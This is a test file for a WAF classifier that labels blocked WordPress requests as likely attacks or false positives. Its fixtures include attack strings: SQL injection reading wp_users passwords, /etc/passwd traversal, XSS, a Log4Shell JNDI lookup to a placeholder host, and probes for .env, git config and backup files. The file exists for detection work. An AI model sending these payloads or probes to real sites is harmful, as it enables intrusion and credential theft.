import { describe, expect, it } from 'vitest';
import type { WafEvent } from '../../schemas/event.js';
import { classifyRequest, foldFleetSignals } from '../../src/classify/classify.js';
import type { FleetFacts, IpFacts } from '../../src/classify/signal.js';
import { FLEET_SIGNALS, REQUEST_SIGNALS } from '../../src/classify/signals.js';
import { eventFixture } from '../support/events.js';

/**
 * Each signal's own cases (the StreamAlert/Panther detection style): events it must fire on and
 * look-alikes it must not.
 */
type Case = Partial<WafEvent>;
const SESSION = ['wordpress_logged_in_9f2', 'wordpress_sec_9f2', 'wp-settings-1'];

const requestCases: Record<string, { fires: Case[]; quiet: Case[] }> = {
  'wp-session': {
    fires: [{ wp_session: true, cookie_names: SESSION }],
    quiet: [{ cookie_names: ['wp-settings-1'] }],
  },
  'editor-endpoint': {
    fires: [
      { method: 'POST', path: '/wp-admin/async-upload.php', cookie_names: SESSION },
      {
        method: 'POST',
        path: '/wp-json/wp/v2/posts/812',
        rule_id: 'CrossSiteScripting_BODY',
        cookie_redacted: true,
      },
      {
        method: 'POST',
        path: '/',
        query: 'rest_route=/wp/v2/pages/9',
        rule_id: 'CrossSiteScripting_BODY',
        cookie_names: SESSION,
      },
    ],
    quiet: [
      { method: 'GET', path: '/wp-admin/post.php' },
      { method: 'POST', path: '/wp-admin/post.php', rule_id: 'SQLi_QUERYARGUMENTS' },
      { method: 'POST', path: '/wp-content/plugins/x/upload.php', cookie_names: SESSION },
      { method: 'POST', path: '/wp-admin/async-upload.php', cookie_names: [] },
    ],
  },
  'oversize-upload': {
    fires: [{ method: 'POST', path: '/wp-json/wp/v2/media', cookie_names: SESSION }],
    quiet: [
      { method: 'POST', path: '/wp-json/wp/v2/posts/1' },
      { method: 'POST', path: '/wp-admin/async-upload.php', rule_id: 'GenericRFI_BODY' },
    ],
  },
  checkout: {
    fires: [{ method: 'POST', path: '/', query: 'wc-ajax=checkout', rule_id: 'CrossSiteScripting_BODY' }],
    quiet: [
      { method: 'GET', path: '/', query: 'wc-ajax=checkout' },
      { method: 'POST', path: '/', query: 'p=1' },
    ],
  },
  'callback-endpoint': {
    fires: [
      { method: 'POST', path: '/', query: 'wc-api=wc_stripe', rule_id: 'CrossSiteScripting_BODY' },
      {
        method: 'POST',
        path: '/xmlrpc.php',
        query: 'for=jetpack&token=abc',
        rule_group: 'AWS#AWSManagedRulesWordPressRuleSet',
        rule_id: 'WordPressExploitablePaths_URIPATH',
      },
    ],
    quiet: [
      { method: 'POST', path: '/', query: 'wc-api=', rule_id: 'CrossSiteScripting_BODY' },
      {
        method: 'POST',
        path: '/xmlrpc.php',
        query: 'for=jetpackx',
        rule_id: 'WordPressExploitablePaths_URIPATH',
      },
      { method: 'POST', path: '/', query: 'wc-api=wc_stripe', rule_id: null },
    ],
  },
  'comment-form': {
    fires: [{ method: 'POST', path: '/wp-comments-post.php', rule_id: 'CrossSiteScripting_BODY' }],
    quiet: [
      { method: 'GET', path: '/wp-comments-post.php' },
      { method: 'POST', path: '/wp-comments-post.php', rule_id: 'SQLi_QUERYARGUMENTS' },
    ],
  },
  'attack-payload': {
    fires: [
      { query: "id=1'%20UNION%20SELECT%20user_pass%20FROM%20wp_users--" },
      { query: 'file=../../../../etc/passwd' },
      { query: 's=%3Cscript%3Ealert(1)%3C/script%3E' },
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template
      { path: '/index.php', query: 'x=${jndi:ldap://evil/a}' },
      { query: 'page=php://filter/convert.base64-encode/resource=index' },
    ],
    quiet: [
      { query: 's=union+station+selection' },
      { query: 'p=123&preview=true' },
      { path: '/2024/03/select-the-best/' },
    ],
  },
  'injection-outside-body': {
    fires: [
      { rule_group: 'AWS#AWSManagedRulesSQLiRuleSet', rule_id: 'SQLi_QUERYARGUMENTS' },
      { rule_group: 'AWS#AWSManagedRulesWordPressRuleSet', rule_id: 'WordPressExploitablePaths_URIPATH' },
      { rule_group: 'AWS#AWSManagedRulesKnownBadInputsRuleSet', rule_id: 'Log4JRCE_HEADER' },
    ],
    quiet: [
      { rule_id: 'CrossSiteScripting_BODY' },
      { rule_id: 'NoUserAgent_HEADER' },
      { rule_id: 'SizeRestrictions_QUERYSTRING' },
    ],
  },
  'probe-path': {
    fires: [
      { path: '/.env' },
      { path: '/.git/config' },
      { path: '/wp-config.php.bak' },
      { path: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' },
      { path: '/wp-content/uploads/2024/shell.php' },
      { path: '/backup.zip' },
      { path: '/db.sql' },
      { path: '/wp-content/plugins/x/upload.php' },
      { path: '/upload.php' },
    ],
    quiet: [
      { path: '/wp-login.php' },
      { path: '/environment-policy/' },
      { path: '/wp-content/uploads/2024/photo.jpg' },
      { path: '/wp-content/uploads/2024/05/brochure.zip' },
      { path: '/wp-admin/upload.php' },
    ],
  },
  'scanner-user-agent': {
    fires: [
      { user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' },
      { user_agent: 'Mozilla/5.0 (compatible; Nuclei - Open-source project)' },
    ],
    quiet: [
      { user_agent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) Safari/605.1.15' },
      { user_agent: null },
    ],
  },
  'http-library-user-agent': {
    fires: [{ user_agent: 'python-requests/2.31.0' }, { user_agent: 'Go-http-client/1.1' }],
    quiet: [{ user_agent: 'Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0' }],
  },
  'no-user-agent': {
    fires: [{ user_agent: null }, { user_agent: '  ' }],
    quiet: [{ user_agent: 'UptimeRobot/2.0' }],
  },
  'reputation-list': {
    fires: [{ labels: ['awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList'] }],
    quiet: [{ labels: ['awswaf:managed:aws:anonymous-ip-list:HostingProviderIPList'] }],
  },
  'rate-limited': {
    fires: [{ terminating_rule_type: 'RATE_BASED' }],
    quiet: [{ terminating_rule_type: 'MANAGED_RULE_GROUP' }],
  },
  'admin-write-without-session': {
    fires: [{ method: 'POST', path: '/wp-admin/async-upload.php', cookie_names: [] }],
    quiet: [
      { method: 'POST', path: '/wp-admin/async-upload.php', cookie_names: SESSION, wp_session: true },
      { method: 'POST', path: '/wp-admin/async-upload.php', cookie_redacted: true },
      { method: 'POST', path: '/wp-admin/admin-ajax.php' },
    ],
  },
};

describe('request signals', () => {
  it('every request signal has its own cases, a weight and a one-line reason', () => {
    expect(Object.keys(requestCases).sort()).toEqual(REQUEST_SIGNALS.map((s) => s.id).sort());
    for (const s of [...REQUEST_SIGNALS, ...FLEET_SIGNALS]) {
      expect(s.weight).not.toBe(0);
      expect(s.reason).toMatch(/^[^\n]{10,120}$/);
    }
  });

  for (const signal of REQUEST_SIGNALS) {
    const cases = requestCases[signal.id];
    it(`${signal.id}: fires on its cases and stays quiet on the look-alikes`, () => {
      for (const c of cases?.fires ?? [])
        expect(signal.applies(eventFixture(c)), JSON.stringify(c)).toBe(true);
      for (const c of cases?.quiet ?? [])
        expect(signal.applies(eventFixture(c)), JSON.stringify(c)).toBe(false);
    });
  }
});

const ip = (f: Partial<IpFacts>): FleetFacts => ({
  ip: {
    requests: 10,
    allowedRequests: 8,
    sites: 1,
    attackRequests: 0,
    attackSites: 0,
    adminWork: 0,
    sessionRequests: 0,
    sessionInjections: 0,
    hostileRequests: 0,
    authRequests: 0,
    authReadsAllowed: 0,
    callbackRequests: 0,
    userAgents: 1,
    signatureSites: 0,
    distinctPaths: 3,
    onlyRootGets: false,
    ...f,
  },
});

describe('verdicts', () => {
  it('an editor upload blocked by SizeRestrictions_BODY is a likely false positive', () => {
    const e = classifyRequest(
      eventFixture({
        method: 'POST',
        path: '/wp-admin/async-upload.php',
        wp_session: true,
        cookie_names: SESSION,
      }),
    );
    expect(e.verdict).toBe('likely-false-positive');
    expect(e.reasons).toContain('carried a WordPress logged-in session cookie');
  });

  it('a webshell upload attempt on the same endpoint, from a scanner, is a likely attack', () => {
    const e = classifyRequest(
      eventFixture({
        method: 'POST',
        path: '/wp-admin/async-upload.php',
        user_agent: 'python-requests/2.31',
      }),
    );
    const final = foldFleetSignals(e, ip({ attackRequests: 40, attackSites: 12, sites: 12 }));
    expect(final.verdict).toBe('likely-attack');
  });

  it('behind a redacted Cookie header, what the address did across the fleet decides an upload block', () => {
    const e = classifyRequest(
      eventFixture({ method: 'POST', path: '/wp-admin/async-upload.php', cookie_redacted: true }),
    );
    expect(e.signals).not.toContain('admin-write-without-session');
    expect(foldFleetSignals(e, ip({ adminWork: 30 })).verdict).toBe('likely-false-positive');
    expect(foldFleetSignals(e, ip({ attackRequests: 25, attackSites: 9 })).verdict).toBe('likely-attack');
  });

  it('an uptime monitor without a user agent is not an attacker', () => {
    const e = classifyRequest(eventFixture({ rule_id: 'NoUserAgent_HEADER', user_agent: null }));
    expect(foldFleetSignals(e, ip({ sites: 60, onlyRootGets: true, distinctPaths: 1 })).verdict).toBe(
      'likely-false-positive',
    );
  });

  it('an exploit-path block is weak alone, and an attack when the address sprays it across sites', () => {
    const e = classifyRequest(
      eventFixture({
        method: 'POST',
        path: '/xmlrpc.php',
        rule_group: 'AWS#AWSManagedRulesWordPressRuleSet',
        rule_id: 'WordPressExploitablePaths_URIPATH',
      }),
    );
    expect(e.verdict).toBe('uncertain');
    expect(foldFleetSignals(e, ip({ signatureSites: 1 })).verdict).toBe('uncertain');
    expect(foldFleetSignals(e, ip({ signatureSites: 9, sites: 9 })).verdict).toBe('likely-attack');
  });

  it('SQL injection in the query string is a likely attack on its own', () => {
    const e = classifyRequest(
      eventFixture({
        rule_group: 'AWS#AWSManagedRulesSQLiRuleSet',
        rule_id: 'SQLi_QUERYARGUMENTS',
        query: "id=1' or '1'='1",
      }),
    );
    expect(e.verdict).toBe('likely-attack');
  });

  it('allowed requests are not classified', () => {
    const e = classifyRequest(
      eventFixture({ action: 'ALLOW', rule_action: null, rule_id: null, rule_group: null }),
    );
    expect(e).toMatchObject({ verdict: null, score: 0, signals: [] });
  });
});

/** A fleet signal's case: the request (request stage already run) and the facts about its client. */
type FleetCase = { e: Case; ip?: Partial<IpFacts>; crowd?: { distinctIps: number; attackIpShare: number } };
const XSS_SAVE: Case = {
  method: 'POST',
  path: '/wp-json/wp/v2/posts/12',
  rule_id: 'CrossSiteScripting_BODY',
  match_location: 'BODY',
};
const APP_PASSWORD: Partial<IpFacts> = {
  requests: 40,
  allowedRequests: 36,
  authRequests: 40,
  authReadsAllowed: 30,
  userAgents: 1,
};

const fleetCases: Record<string, { fires: FleetCase[]; quiet: FleetCase[] }> = {
  'ip-admin-work': {
    fires: [
      { e: {}, ip: { adminWork: 12 } },
      { e: {}, ip: { adminWork: 5, attackRequests: 5 } },
    ],
    quiet: [
      { e: {}, ip: { adminWork: 0 } },
      { e: {}, ip: { adminWork: 2, attackRequests: 9 } },
    ],
  },
  'ip-integration': {
    fires: [
      // A deploy system writing with an application password.
      { e: { ...XSS_SAVE, auth_scheme: 'basic' }, ip: APP_PASSWORD },
      // A payment provider's webhooks (signed, naming the callback), no reads at all.
      {
        e: { path: '/', query: 'wc-api=wc_stripe' },
        ip: { requests: 12, allowedRequests: 10, callbackRequests: 12 },
      },
    ],
    quiet: [
      // Password guessing from a one-shot address: credentials, but no history.
      { e: { ...XSS_SAVE, auth_scheme: 'basic' }, ip: { requests: 2, allowedRequests: 0, authRequests: 2 } },
      // The same client once it sends a payload anywhere.
      { e: { ...XSS_SAVE, auth_scheme: 'basic' }, ip: { ...APP_PASSWORD, hostileRequests: 1 } },
      // Many user agents behind credentials: not one consistent client.
      { e: {}, ip: { ...APP_PASSWORD, userAgents: 9 } },
      // Mostly blocked.
      { e: {}, ip: { ...APP_PASSWORD, allowedRequests: 10 } },
      // Credentials but never a read WAF let through.
      { e: {}, ip: { ...APP_PASSWORD, authReadsAllowed: 0 } },
      { e: {}, ip: {} },
    ],
  },
  'forged-session': {
    fires: [
      {
        e: { ...XSS_SAVE, wp_session: true, cookie_names: SESSION, matched_data: '< script' },
        ip: { sessionRequests: 3, sessionInjections: 3 },
      },
      // A glance at the dashboard (WordPress redirects a bad cookie there) is no editor's work.
      {
        e: { ...XSS_SAVE, wp_session: true, cookie_names: SESSION, matched_data: '< svg onload' },
        ip: { sessionRequests: 6, sessionInjections: 4, adminWork: 1 },
      },
      {
        e: {
          wp_session: true,
          cookie_names: SESSION,
          rule_id: 'SQLi_QUERYARGUMENTS',
          query: "id=1' or '1'='1",
        },
        ip: { sessionRequests: 1, sessionInjections: 1 },
      },
    ],
    quiet: [
      // An editor's save with an embed: the same tokens, but the address works in wp-admin.
      {
        e: { ...XSS_SAVE, wp_session: true, cookie_names: SESSION, matched_data: '< script' },
        ip: { adminWork: 40 },
      },
      // No payload in what was blocked (an upload over the size limit).
      { e: { method: 'POST', path: '/wp-admin/async-upload.php', wp_session: true, cookie_names: SESSION } },
      // No login cookie at all: other signals judge it.
      { e: { ...XSS_SAVE, matched_data: '< script' } },
    ],
  },
  'one-shot-session': {
    fires: [
      {
        e: { method: 'POST', path: '/wp-admin/async-upload.php', wp_session: true, cookie_names: SESSION },
        ip: { requests: 1, allowedRequests: 0 },
      },
    ],
    quiet: [
      // An editor's upload: the editor screen and its heartbeat came first.
      {
        e: { method: 'POST', path: '/wp-admin/async-upload.php', wp_session: true, cookie_names: SESSION },
        ip: { requests: 80, allowedRequests: 76, adminWork: 60 },
      },
      // admin-ajax.php serves visitors too.
      {
        e: { method: 'POST', path: '/wp-admin/admin-ajax.php', wp_session: true, cookie_names: SESSION },
        ip: { requests: 1, allowedRequests: 0 },
      },
      // No cookie: other signals judge it.
      { e: { method: 'POST', path: '/wp-admin/async-upload.php' }, ip: { requests: 1, allowedRequests: 0 } },
    ],
  },
  'ip-multi-site-attack': {
    fires: [{ e: {}, ip: { attackSites: 4, attackRequests: 9 } }],
    quiet: [
      { e: {}, ip: { attackSites: 2 } },
      { e: {}, ip: { attackSites: 4, attackRequests: 4, adminWork: 30 } },
      { e: {}, ip: { ...APP_PASSWORD, attackSites: 5, attackRequests: 5 } },
    ],
  },
  'ip-multi-site-signatures': {
    fires: [{ e: {}, ip: { signatureSites: 3 } }],
    quiet: [
      { e: {}, ip: { signatureSites: 2 } },
      { e: {}, ip: { ...APP_PASSWORD, signatureSites: 8 } },
    ],
  },
  'ip-attack-elsewhere': {
    fires: [{ e: {}, ip: { attackRequests: 3 } }],
    quiet: [
      { e: {}, ip: { attackRequests: 1 } },
      { e: {}, ip: { ...APP_PASSWORD, attackRequests: 6 } },
    ],
  },
  'uptime-monitor': {
    fires: [{ e: { method: 'GET', path: '/' }, ip: { onlyRootGets: true } }],
    quiet: [
      { e: { method: 'GET', path: '/' }, ip: { onlyRootGets: true, attackRequests: 1 } },
      { e: { method: 'POST', path: '/' }, ip: { onlyRootGets: true } },
    ],
  },
  'rule-path-crowd': {
    fires: [{ e: {}, crowd: { distinctIps: 8, attackIpShare: 0.1 } }],
    quiet: [
      { e: {}, crowd: { distinctIps: 4, attackIpShare: 0 } },
      { e: {}, crowd: { distinctIps: 9, attackIpShare: 0.4 } },
    ],
  },
};

describe('fleet signals', () => {
  it('every fleet signal has its own cases', () => {
    expect(Object.keys(fleetCases).sort()).toEqual(FLEET_SIGNALS.map((s) => s.id).sort());
  });

  for (const signal of FLEET_SIGNALS) {
    const cases = fleetCases[signal.id];
    const facts = (c: FleetCase): FleetFacts => ({
      ...(c.ip ? ip(c.ip) : {}),
      ...(c.crowd ? { rulePath: { ...c.crowd, sites: 3 } } : {}),
    });
    it(`${signal.id}: fires on its cases and stays quiet on the look-alikes`, () => {
      for (const c of cases?.fires ?? [])
        expect(signal.applies(classifyRequest(eventFixture(c.e)), facts(c)), JSON.stringify(c)).toBe(true);
      for (const c of cases?.quiet ?? [])
        expect(signal.applies(classifyRequest(eventFixture(c.e)), facts(c)), JSON.stringify(c)).toBe(false);
    });
  }
});

describe('verdicts with integrations and forged sessions', () => {
  it("an application password's blocked REST save is a false positive, not a cookie-less attack", () => {
    const e = classifyRequest(
      eventFixture({ ...XSS_SAVE, auth_scheme: 'basic', user_agent: 'python-requests/2.32' }),
    );
    expect(e.signals).toContain('admin-write-without-session');
    const final = foldFleetSignals(e, ip(APP_PASSWORD));
    expect(final.signals).not.toContain('admin-write-without-session');
    expect(final.signals).not.toContain('http-library-user-agent');
    expect(final.verdict).not.toBe('likely-attack');
  });

  it('the same write from a one-shot address guessing passwords stays an attack', () => {
    const e = classifyRequest(eventFixture({ ...XSS_SAVE, auth_scheme: 'basic' }));
    expect(foldFleetSignals(e, ip({ requests: 1, allowedRequests: 0, authRequests: 1 })).verdict).toBe(
      'likely-attack',
    );
  });

  it("a forged login cookie on an XSS post makes an attack, where an editor's identical save is a false positive", () => {
    const e = classifyRequest(
      eventFixture({ ...XSS_SAVE, wp_session: true, cookie_names: SESSION, matched_data: '< script' }),
    );
    expect(e.verdict).toBe('likely-false-positive');
    const forged = foldFleetSignals(e, ip({ sessionRequests: 4, sessionInjections: 3 }));
    expect(forged).toMatchObject({ verdict: 'likely-attack' });
    expect(forged.signals).not.toContain('wp-session');
    expect(forged.score).toBe(3);
    expect(foldFleetSignals(e, ip({ adminWork: 25, sessionRequests: 60 })).verdict).toBe(
      'likely-false-positive',
    );
  });
});
